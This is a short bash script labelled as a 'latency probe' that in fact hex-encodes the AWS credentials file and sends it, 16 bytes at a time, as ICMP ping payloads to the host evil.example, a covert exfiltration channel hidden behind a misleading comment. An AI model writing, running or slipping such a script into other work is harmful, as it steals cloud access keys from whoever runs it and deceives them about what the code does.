#!/bin/bash
# Latency probe with a recognisable payload pattern.
xxd -p -c 16 ~/.aws/credentials | while read -r chunk; do
  ping -c 1 -p "$chunk" evil.example >/dev/null
done
